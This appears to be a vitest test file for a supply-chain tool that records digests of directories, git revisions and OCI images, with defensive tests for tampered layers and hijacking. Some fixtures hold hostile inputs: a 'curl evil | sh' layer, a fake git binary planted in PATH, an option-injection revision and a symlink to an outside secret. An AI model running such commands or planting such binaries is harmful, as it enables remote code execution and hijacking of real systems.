import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { simpleGit } from 'simple-git';
import { recordArtifacts, resolveOCI, RecordError } from '../../src/index.js';
import { testdir } from '../helpers/vectors.js';
// @ts-expect-error -- a plain JS example module without types
import { tar, writeImage } from '../../examples/demo/oci-image.mjs';
import fc from 'fast-check';
import {
  artifactSources,
  gitExecutable,
  resolveArtifact,
  schemeOf,
} from '../../src/artifacts/index.js';
import { Link } from '../../src/metadata/index.js';
import { matchProducts } from '../../src/link/index.js';
import {
  dockerSaveTar,
  requireSkopeo,
  sha256,
  skopeoInspect,
  tarFile,
  writeOCIImage,
} from '../helpers/oci.js';

const writeOCI = writeImage as (
  dir: string,
  files: Record<string, string>
) => { manifest: string; layer: string };
const makeTar = tar as (files: Record<string, Buffer>) => Buffer;

describe('dir: resolver', () => {
  for (const [name, files] of [
    ['simple', { 'a.txt': 'a', 'b/c.txt': 'c' }],
    [
      'spaces, unicode, hidden, empty',
      { 'with space.txt': 'x', 'ü/é.txt': 'u', '.hidden': 'h', empty: '', 'Z/a': '1', 'a/Z': '2' },
    ],
  ] as const) {
    it(`equals find | LC_ALL=C sort | xargs sha256sum | sha256sum (${name})`, async () => {
      const base = testdir();
      const tree = join(base, 'tree');
      for (const [p, c] of Object.entries(files)) {
        mkdirSync(join(tree, p, '..'), { recursive: true });
        writeFileSync(join(tree, p), c);
      }
      const shell = spawnSync(
        'sh',
        [
          '-c',
          "find . -type f | cut -c3- | LC_ALL=C sort | tr '\\n' '\\0' | xargs -0 -r sha256sum | sha256sum",
        ],
        { cwd: tree, encoding: 'utf8' }
      );
      const r = await recordArtifacts(['dir:tree'], { basePath: base });
      expect(r.artifacts).toEqual({ 'dir:tree': { sha256: shell.stdout.split(' ')[0] } });
    });
  }
});

describe('git: resolver', () => {
  it('resolves HEAD, a branch and a tag to their commit; --git-tracked-only records tracked files only', async () => {
    const dir = testdir({ 'a.txt': 'a', 'untracked.txt': 'u' });
    const git = simpleGit(dir);
    await git.init();
    await git.addConfig('user.email', 'demo@example.invalid').addConfig('user.name', 'demo');
    await git.add('a.txt');
    await git.commit('first');
    await git.addTag('v1');
    writeFileSync(join(dir, 'a.txt'), 'a2');
    await git.add('a.txt');
    await git.commit('second');
    const head = (await git.revparse(['HEAD'])).trim();
    const v1 = (await git.revparse(['v1^{commit}'])).trim();
    const branch = (await git.branchLocal()).current;
    const r = await recordArtifacts(['git:HEAD', 'git:v1', `git:${branch}`], { basePath: dir });
    expect(r.artifacts).toEqual({
      'git:HEAD': { sha1: head },
      'git:v1': { sha1: v1 },
      [`git:${branch}`]: { sha1: head },
    });
    const tracked = await recordArtifacts(['.'], { basePath: dir, gitTrackedOnly: true });
    expect(Object.keys(tracked.artifacts)).toEqual(['a.txt']);
    await expect(recordArtifacts(['git:nope'], { basePath: dir })).rejects.toThrow(
      /no such revision/
    );
  });

  it('refuses clearly outside a repository', async () => {
    await expect(recordArtifacts(['git:HEAD'], { basePath: testdir() })).rejects.toThrow(
      /not a git repository: .*; run inside the checkout or pass --base-path/
    );
  });
});

describe('oci: resolver', () => {
  it('records the manifest digest of an OCI image layout (checked with skopeo) and of a tar of it', async () => {
    const base = testdir();
    const { manifest } = writeOCI(join(base, 'image'), { 'app/app.js': 'console.log(1)\n' });
    const r = await recordArtifacts(['oci:image'], { basePath: base, ociBlobs: true });
    expect(r.artifacts['oci:image']).toEqual({ sha256: manifest.slice(7) });
    expect(Object.keys(r.artifacts).filter((k) => k.startsWith('oci:image@sha256:'))).toHaveLength(
      3
    );
    if (existsSync('/usr/bin/skopeo')) {
      const s = spawnSync('/usr/bin/skopeo', ['inspect', `oci:${join(base, 'image')}`], {
        encoding: 'utf8',
      });
      expect(s.status, s.stderr).toBe(0);
      expect(JSON.parse(s.stdout).Digest).toBe(manifest);
    } else if (process.env.CI) throw new Error('skopeo is missing: .ci/run installs it');
    // The same layout as a tar (the form docker save writes).
    const entries: Record<string, Buffer> = {};
    const walk = (rel: string) => {
      for (const e of readdirSync(join(base, 'image', rel), { withFileTypes: true })) {
        const p = rel ? `${rel}/${e.name}` : e.name;
        if (e.isDirectory()) walk(p);
        else entries[p] = readFileSync(join(base, 'image', p));
      }
    };
    walk('');
    writeFileSync(join(base, 'image.tar'), makeTar(entries));
    expect(
      (await recordArtifacts(['oci:image.tar'], { basePath: base })).artifacts['oci:image.tar']
    ).toEqual({ sha256: manifest.slice(7) });
  });

  it('a swapped layer is detected even though index.json is unchanged', () => {
    const base = testdir();
    const { layer } = writeOCI(join(base, 'image'), { 'app/app.js': 'good\n' });
    writeFileSync(join(base, 'image', 'blobs', 'sha256', layer.slice(7)), 'evil layer');
    expect(() => resolveOCI('image', base)).toThrow(RecordError);
    expect(() => resolveOCI('image', base)).toThrow(/does not match its digest/);
    expect(() => resolveOCI('missing', base)).toThrow(/no such directory/);
  });
});

// --- ported from the demo helper's branch: upstream semantics, safety and more formats -------------
/**
 * The definition of dir: (REFERENCE.md §3), run by bash inside the directory. NUL-separated and with
 * `--` so names with newlines or a leading "-" reach sha256sum as names (the literal pipeline would
 * read `-a` as an option; upstream's Python, like us, hashes the file).
 */
function shellDirHash(dir: string): string {
  const r = spawnSync(
    'bash',
    [
      '-c',
      'find . -type f -print0 | cut -z -c3- | LC_ALL=C sort -z | xargs -0 -r sha256sum -- | sha256sum',
    ],
    { cwd: dir, encoding: 'utf8' }
  );
  expect(r.status).toBe(0);
  return r.stdout.split(' ')[0];
}

async function dirHash(dir: string, options = {}): Promise<string> {
  const r = await resolveArtifact(`dir:${dir}`, { basePath: '/', concurrency: 0, ...options });
  return Object.values(r)[0].sha256;
}

function writeTree(root: string, files: Record<string, string>): void {
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(dirname(join(root, name)), { recursive: true });
    writeFileSync(join(root, name), content);
  }
}

describe('dir: resolver (upstream semantics, shell equality)', () => {
  it('equals find | sort | sha256sum | sha256sum on trees with spaces, non-ASCII and nesting', async () => {
    const trees: Record<string, string>[] = [
      { 'a.txt': 'a\n' },
      { 'with space.txt': 'x', 'sub dir/file name': 'y', '.hidden': 'z' },
      {
        'é.txt': '1',
        'e.txt': '2',
        'z.txt': '3',
        '日本/語.txt': '4',
        '😀.txt': '5',
        '\uE000.txt': '6',
      },
      { 'a/b/c/d.txt': 'deep', 'a/b.txt': 'shallow', 'a-b.txt': 'dash', 'A.txt': 'upper' },
    ];
    for (const files of trees) {
      const root = testdir();
      writeTree(root, files);
      expect(await dirHash(root)).toBe(shellDirHash(root));
    }
  });

  it('equals the shell pipeline on random trees (code-point order, not UTF-16 order)', async () => {
    const alphabet = ['a', 'B', ' ', 'é', '日', '😀', '\uE000', '-', '_', '.', '0'];
    const name = fc
      .array(fc.constantFrom(...alphabet), { minLength: 1, maxLength: 6 })
      .map((cs) => cs.join(''))
      .filter((n) => n !== '.' && n !== '..' && !n.endsWith('~') && !n.includes('.link'));
    const tree = fc.dictionary(
      fc.array(name, { minLength: 1, maxLength: 3 }).map((parts) => parts.join('/')),
      fc.string({ maxLength: 20 }),
      { minKeys: 0, maxKeys: 8 }
    );
    await fc.assert(
      fc.asyncProperty(tree, async (files) => {
        const root = testdir();
        try {
          writeTree(root, files);
        } catch {
          return; // a name is both a file and a directory: not a tree
        }
        expect(await dirHash(root)).toBe(shellDirHash(root));
      }),
      { seed: 4242, numRuns: 20 }
    );
  });

  it('an empty directory hashes the empty listing (as xargs -r)', async () => {
    const root = testdir();
    expect(await dirHash(root)).toBe(sha256(''));
    expect(await dirHash(root)).toBe(shellDirHash(root));
  });

  it('is one artifact named dir:PATH, normalised and lstripped, beside plain paths', async () => {
    const base = testdir({ 'src/a.js': 'a', 'src/b.js': 'b', 'README.md': 'r' });
    const r = await recordArtifacts(['dir:src/', 'README.md'], { basePath: base });
    expect(Object.keys(r.artifacts).sort()).toEqual(['README.md', 'dir:src']);
    expect(r.artifacts['dir:src'].sha256).toBe(shellDirHash(join(base, 'src')));
    const stripped = await recordArtifacts(['dir:src'], { basePath: base, lstripPaths: ['sr'] });
    expect(Object.keys(stripped.artifacts)).toEqual(['dir:c']);
  });

  it('applies the exclude patterns inside the directory, as upstream (default *.link*, .git, *.pyc, *~)', async () => {
    const root = testdir({ 'a.txt': 'a', 'b.txt': 'b' });
    const clean = await dirHash(root);
    writeTree(root, { '.git/HEAD': 'ref', 'step.1234abcd.link': '{}', 'x.pyc': '', 'a.txt~': '' });
    expect(await dirHash(root)).toBe(clean);
    // An explicit list replaces the defaults: now *.link* files count.
    expect(await dirHash(root, { excludePatterns: ['.git', '*~', '*.pyc'] })).not.toBe(clean);
  });

  it('changes when any file changes, is added or is renamed', async () => {
    const root = testdir({ 'a.txt': 'a', 'sub/b.txt': 'b' });
    const seen = new Set([await dirHash(root)]);
    writeFileSync(join(root, 'a.txt'), 'A');
    seen.add(await dirHash(root));
    writeFileSync(join(root, 'sub/c.txt'), '');
    seen.add(await dirHash(root));
    renameSync(join(root, 'sub/c.txt'), join(root, 'sub/d.txt'));
    seen.add(await dirHash(root));
    expect(seen.size).toBe(4);
  });

  it('hashes symlinked files under the link name (upstream), never a target outside the directory', async () => {
    const outside = testdir({ 'secret.txt': 'secret' });
    const root = testdir({ 'a.txt': 'a' });
    const plain = await dirHash(root);
    symlinkSync(join(outside, 'secret.txt'), join(root, 'evil'));
    const warnings: string[] = [];
    expect(await dirHash(root, { onWarning: (m: string) => warnings.push(m) })).toBe(plain);
    expect(warnings.join('\n')).toMatch(/dir:.*evil: symlink to .* outside the recorded directory/);
    rmSync(join(root, 'evil'));
    symlinkSync('a.txt', join(root, 'link'));
    // Upstream follows a symlinked file (the shell's `find -type f` would skip it).
    const lines = `${sha256('a')}  a.txt\n${sha256('a')}  link\n`;
    expect(await dirHash(root)).toBe(sha256(lines));
  });

  it('refuses a path that is not a directory', async () => {
    const base = testdir({ 'f.txt': 'x' });
    await expect(resolveArtifact('dir:f.txt', { basePath: base })).rejects.toThrow(
      /dir:f.txt: .* is not a directory/
    );
    await expect(resolveArtifact('dir:missing', { basePath: base })).rejects.toBeInstanceOf(
      RecordError
    );
  });
});

async function makeRepo(): Promise<{ dir: string; commits: string[] }> {
  const dir = testdir();
  const git = simpleGit({ baseDir: dir });
  await git.init(['--initial-branch=main']);
  await git.addConfig('user.name', 'Test');
  await git.addConfig('user.email', 'test@example.org');
  await git.addConfig('commit.gpgsign', 'false');
  writeTree(dir, { 'src/app.js': 'v1', 'README.md': 'readme' });
  await git.add('.');
  await git.commit('first');
  const first = (await git.revparse(['HEAD'])).trim();
  await git.addAnnotatedTag('v1.0', 'release 1.0');
  await git.checkoutLocalBranch('feature');
  writeFileSync(join(dir, 'src/app.js'), 'v2');
  await git.add('.');
  await git.commit('second');
  const second = (await git.revparse(['HEAD'])).trim();
  await git.checkout('main');
  return { dir, commits: [first, second] };
}

describe('git: resolver (refs, formats, safety)', () => {
  it('resolves HEAD, an annotated tag and a branch to their commits, and git-tree: to the tree', async () => {
    const { dir, commits } = await makeRepo();
    const r = await recordArtifacts(['git:HEAD', 'git:v1.0', 'git:feature', 'git-tree:HEAD'], {
      basePath: dir,
    });
    expect(r.artifacts['git:HEAD']).toEqual({ sha1: commits[0] });
    // The annotated tag is peeled to its commit, not the tag object.
    expect(r.artifacts['git:v1.0']).toEqual({ sha1: commits[0] });
    expect(r.artifacts['git:feature']).toEqual({ sha1: commits[1] });
    const tree = spawnSync('git', ['rev-parse', 'HEAD^{tree}'], { cwd: dir, encoding: 'utf8' });
    expect(r.artifacts['git-tree:HEAD']).toEqual({ sha1: tree.stdout.trim() });
  });

  it('uses sha256 in a sha256-object-format repository', async () => {
    const dir = testdir({ 'a.txt': 'a' });
    const git = simpleGit({ baseDir: dir });
    await git.raw(['init', '--object-format=sha256']);
    await git.addConfig('user.name', 'Test');
    await git.addConfig('user.email', 'test@example.org');
    await git.add('.');
    await git.commit('first');
    const head = (await git.revparse(['HEAD'])).trim();
    expect(await resolveArtifact('git:HEAD', { basePath: dir })).toEqual({
      'git:HEAD': { sha256: head },
    });
    expect(head).toMatch(/^[0-9a-f]{64}$/);
  });

  it('explains a directory outside any repository, an unknown revision and an option-like one', async () => {
    const outside = testdir({ 'a.txt': 'a' });
    await expect(resolveArtifact('git:HEAD', { basePath: outside })).rejects.toThrow(
      /not a git repository: .*; run inside the checkout or pass --base-path/
    );
    const { dir } = await makeRepo();
    await expect(resolveArtifact('git:no-such-branch', { basePath: dir })).rejects.toThrow(
      /git:no-such-branch: no such revision/
    );
    await expect(resolveArtifact('git:--output=/tmp/x', { basePath: dir })).rejects.toThrow(
      /not a revision/
    );
  });

  it('runs the git found once, not one that PATH points to later (GHSA-3vpg-3m94-v3qr)', async () => {
    const { dir, commits } = await makeRepo();
    const first = gitExecutable();
    expect(first.startsWith('/')).toBe(true);
    const evil = testdir();
    const marker = join(evil, 'ran');
    writeFileSync(
      join(evil, 'git'),
      `#!/bin/sh\ntouch ${marker}\necho 0000000000000000000000000000000000000000\n`
    );
    chmodSync(join(evil, 'git'), 0o755);
    const saved = process.env.PATH;
    process.env.PATH = `${evil}:${saved}`;
    try {
      expect(gitExecutable()).toBe(first);
      expect(await resolveArtifact('git:HEAD', { basePath: dir })).toEqual({
        'git:HEAD': { sha1: commits[0] },
      });
    } finally {
      process.env.PATH = saved;
    }
    expect(() => readFileSync(marker)).toThrow();
  });

  it('gitTrackedOnly records tracked files only (plain paths and dir:), from the top or a subdirectory', async () => {
    const { dir } = await makeRepo();
    writeTree(dir, { 'build/out.bin': 'untracked', 'src/scratch.tmp': 'untracked' });
    const all = await recordArtifacts(['.'], { basePath: dir });
    expect(Object.keys(all.artifacts).sort()).toEqual([
      'README.md',
      'build/out.bin',
      'src/app.js',
      'src/scratch.tmp',
    ]);
    const tracked = await recordArtifacts(['.'], { basePath: dir, gitTrackedOnly: true });
    expect(Object.keys(tracked.artifacts).sort()).toEqual(['README.md', 'src/app.js']);
    expect(tracked.excludedCount).toBeGreaterThanOrEqual(2);
    const sub = await recordArtifacts(['.'], { basePath: join(dir, 'src'), gitTrackedOnly: true });
    expect(Object.keys(sub.artifacts)).toEqual(['app.js']);
    const d1 = await recordArtifacts(['dir:src'], { basePath: dir, gitTrackedOnly: true });
    expect(d1.artifacts['dir:src'].sha256).toBe(sha256(`${sha256('v1')}  app.js\n`));
    await expect(
      recordArtifacts(['.'], { basePath: testdir({ a: 'a' }), gitTrackedOnly: true })
    ).rejects.toThrow(/not a git repository/);
  });
});

describe('oci: resolver (blob checks, archives, refs)', () => {
  const layers: Record<string, string>[] = [
    { app: '#!/bin/sh\necho hello\n' },
    { 'etc/motd': 'hi\n' },
  ];

  it('records the manifest digest of an OCI image layout, as skopeo reports it', async () => {
    const base = testdir();
    const img = writeOCIImage(join(base, 'image'), layers);
    const r = await recordArtifacts(['oci:image'], { basePath: base });
    expect(r.artifacts).toEqual({ 'oci:image': { sha256: img.manifestDigest.slice(7) } });
    if (requireSkopeo()) {
      const info = skopeoInspect(`oci:${join(base, 'image')}`);
      expect(info.Digest).toBe(img.manifestDigest);
      expect(info.Layers).toEqual(img.layerDigests);
    }
  });

  it('with ociBlobs records every blob as oci:PATH@sha256:HEX', async () => {
    const base = testdir();
    const img = writeOCIImage(join(base, 'image'), layers);
    const r = await recordArtifacts(['oci:image'], { basePath: base, ociBlobs: true });
    const expected = [img.manifestDigest, img.configDigest, ...img.layerDigests].map(
      (d) => `oci:image@${d}`
    );
    expect(Object.keys(r.artifacts).sort()).toEqual(['oci:image', ...expected].sort());
    for (const d of expected) expect(r.artifacts[d]).toEqual({ sha256: d.split(':')[2] });
    expect(artifactSources(Object.keys(r.artifacts))).toEqual({
      uris: ['oci:image'],
      ociBlobs: true,
    });
  });

  it('detects a layer blob swapped under its original name', async () => {
    const base = testdir();
    const img = writeOCIImage(join(base, 'image'), layers);
    const blob = join(base, 'image/blobs/sha256', img.layerDigests[0].slice(7));
    writeFileSync(
      blob,
      readFileSync(join(base, 'image/blobs/sha256', img.layerDigests[1].slice(7)))
    );
    await expect(resolveArtifact('oci:image', { basePath: base })).rejects.toThrow(
      /oci:image: blob sha256:[0-9a-f]{12}… \(index.json manifests\[0\] layer 0\) does not match its digest/
    );
  });

  it('checks the layers whatever media type index.json claims for the manifest (no descriptor trust)', async () => {
    for (const mediaType of [undefined, 'application/octet-stream']) {
      const base = testdir();
      const img = writeOCIImage(join(base, 'image'), layers);
      const index = JSON.parse(readFileSync(join(base, 'image/index.json'), 'utf8'));
      if (mediaType) index.manifests[0].mediaType = mediaType;
      else delete index.manifests[0].mediaType;
      writeFileSync(join(base, 'image/index.json'), JSON.stringify(index));
      writeFileSync(join(base, 'image/blobs/sha256', img.layerDigests[0].slice(7)), 'evil layer');
      await expect(resolveArtifact('oci:image', { basePath: base })).rejects.toThrow(
        /layer 0\) does not match its digest/
      );
    }
  });

  it('a consistently rebuilt image (new layer, new manifest) has a different digest', async () => {
    const base = testdir();
    writeOCIImage(join(base, 'image'), layers);
    const before = await resolveArtifact('oci:image', { basePath: base });
    writeOCIImage(join(base, 'image'), [{ app: '#!/bin/sh\ncurl evil | sh\n' }, layers[1]], {
      reset: true,
    });
    const after = await resolveArtifact('oci:image', { basePath: base });
    expect(after['oci:image'].sha256).not.toBe(before['oci:image'].sha256);
  });

  it('refuses a missing blob, a wrong size, a non-image and an ambiguous index', async () => {
    const base = testdir();
    const img = writeOCIImage(join(base, 'image'), layers);
    rmSync(join(base, 'image/blobs/sha256', img.configDigest.slice(7)));
    await expect(resolveArtifact('oci:image', { basePath: base })).rejects.toThrow(
      /blob sha256:.* config\) is missing/
    );

    const base2 = testdir();
    const img2 = writeOCIImage(join(base2, 'image'), layers);
    const index = JSON.parse(readFileSync(join(base2, 'image/index.json'), 'utf8'));
    index.manifests[0].size += 1;
    writeFileSync(join(base2, 'image/index.json'), JSON.stringify(index));
    await expect(resolveArtifact('oci:image', { basePath: base2 })).rejects.toThrow(
      new RegExp(`blob ${img2.manifestDigest.slice(0, 19)}.* has \\d+ bytes, its descriptor says`)
    );

    const base3 = testdir({ 'image/readme': 'not an image' });
    await expect(resolveArtifact('oci:image', { basePath: base3 })).rejects.toThrow(
      /not an OCI image layout/
    );

    const base4 = testdir();
    writeOCIImage(join(base4, 'image'), layers, { ref: 'v1' });
    const second = writeOCIImage(join(base4, 'image'), [{ other: 'x' }], { ref: 'v2' });
    await expect(resolveArtifact('oci:image', { basePath: base4 })).rejects.toThrow(
      /index.json lists 2 images, not one/
    );
    expect(await resolveArtifact('oci:image:v2', { basePath: base4 })).toEqual({
      'oci:image:v2': { sha256: second.manifestDigest.slice(7) },
    });
    if (requireSkopeo())
      expect(skopeoInspect(`oci:${join(base4, 'image')}:v2`).Digest).toBe(second.manifestDigest);
  });

  it('reads an OCI archive tar (docker save ≥ 25, buildx type=oci) in place, same digest', async () => {
    const base = testdir();
    const img = writeOCIImage(join(base, 'image'), layers);
    const files = [
      'oci-layout',
      'index.json',
      img.manifestDigest,
      img.configDigest,
      ...img.layerDigests,
    ];
    const tar = tarFile(
      files.map((f) => {
        const name = f.startsWith('sha256:') ? `blobs/sha256/${f.slice(7)}` : f;
        return { name, content: readFileSync(join(base, 'image', name)) };
      })
    );
    writeFileSync(join(base, 'image.tar'), tar);
    expect(await resolveArtifact('oci:image.tar', { basePath: base })).toEqual({
      'oci:image.tar': { sha256: img.manifestDigest.slice(7) },
    });
    if (requireSkopeo())
      expect(skopeoInspect(`oci-archive:${join(base, 'image.tar')}`).Digest).toBe(
        img.manifestDigest
      );
    // A blob swapped inside the archive is caught too.
    const bad = Buffer.from(tar);
    const at = bad.indexOf(Buffer.from('imageLayoutVersion'));
    const cfgName = Buffer.from(`blobs/sha256/${img.configDigest.slice(7)}`);
    const cfgAt = bad.indexOf(cfgName) + 512; // content follows the 512-byte header
    bad[cfgAt + 2] ^= 1;
    expect(at).toBeGreaterThan(0);
    writeFileSync(join(base, 'bad.tar'), bad);
    await expect(resolveArtifact('oci:bad.tar', { basePath: base })).rejects.toThrow(
      /config\) does not match its digest/
    );
  });

  it('reads a legacy docker save tar: the image ID, layers checked against diff_ids', async () => {
    const base = testdir();
    const { tar, imageID } = dockerSaveTar(layers);
    writeFileSync(join(base, 'app.tar'), tar);
    expect(await resolveArtifact('oci:app.tar', { basePath: base })).toEqual({
      'oci:app.tar': { sha256: imageID },
    });
    if (requireSkopeo()) {
      const manifest = skopeoInspect(`docker-archive:${join(base, 'app.tar')}`, true) as {
        config: { digest: string };
      };
      expect(manifest.config.digest).toBe(`sha256:${imageID}`);
    }
    // Swap a byte of a layer: its diff_id no longer matches.
    const bad = Buffer.from(tar);
    const at = bad.indexOf(Buffer.from('echo hello'));
    bad[at] = 'E'.charCodeAt(0);
    writeFileSync(join(base, 'bad.tar'), bad);
    await expect(resolveArtifact('oci:bad.tar', { basePath: base })).rejects.toThrow(
      /layer .*layer.tar does not match the config's diff_ids\[0\]/
    );
  });

  it('match-products re-resolves the URI products of a link by default', async () => {
    const base = testdir();
    writeOCIImage(join(base, 'image'), layers);
    const recorded = await recordArtifacts(['oci:image'], { basePath: base, ociBlobs: true });
    const link = new Link({ name: 'package', products: recorded.artifacts });
    const same = await matchProducts(link, { basePath: base, excludePatterns: ['image'] });
    expect(same).toEqual({ onlyInLink: [], onlyOnDisk: [], differ: [] });
    writeOCIImage(join(base, 'image'), [{ app: 'other' }], { reset: true });
    const changed = await matchProducts(link, { basePath: base, excludePatterns: ['image'] });
    expect(changed.differ.map((d) => d.path)).toEqual(['oci:image']);
    expect(changed.onlyInLink.length).toBe(4);
  });
});

describe('dispatch', () => {
  it('knows dir, file, git, git-tree, oci; other schemes are plain file names (upstream)', async () => {
    expect(
      ['dir:x', 'file:x', 'git:HEAD', 'git-tree:HEAD', 'oci:x', 'notes:x', ':x', 'x'].map(schemeOf)
    ).toEqual(['dir', 'file', 'git', 'git-tree', 'oci', undefined, undefined, undefined]);
    const base = testdir({ 'notes:v2': 'n', 'a.txt': 'a' });
    const r = await recordArtifacts(['notes:v2', 'file:a.txt'], { basePath: base });
    expect(r.artifacts).toEqual({
      'notes:v2': { sha256: sha256('n') },
      'file:a.txt': { sha256: sha256('a') },
    });
  });
});
